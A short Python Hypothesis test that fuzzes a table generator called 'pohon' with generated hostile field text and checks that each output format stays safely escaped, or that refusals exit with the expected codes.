@given(st.dictionaries(st.sampled_from(FIELDS), HOSTILE_TEXT, min_size=3))
def test_generated_hostile_text_never_escapes_any_table(texts):
    checked = check_text(hostile_tree(texts), "fuzz.yaml")
    if not checked.ok:  # the loader refused it: `pohon tabel` exits 1
        return
    for jenis in JENIS:
        for fmt in FORMATS:
            try:
                data = make_table(checked, jenis, fmt)
            except PohonError as e:  # a message, exit 2
                assert e.exit_code == 2
                continue
            _assert_safe(fmt, data)
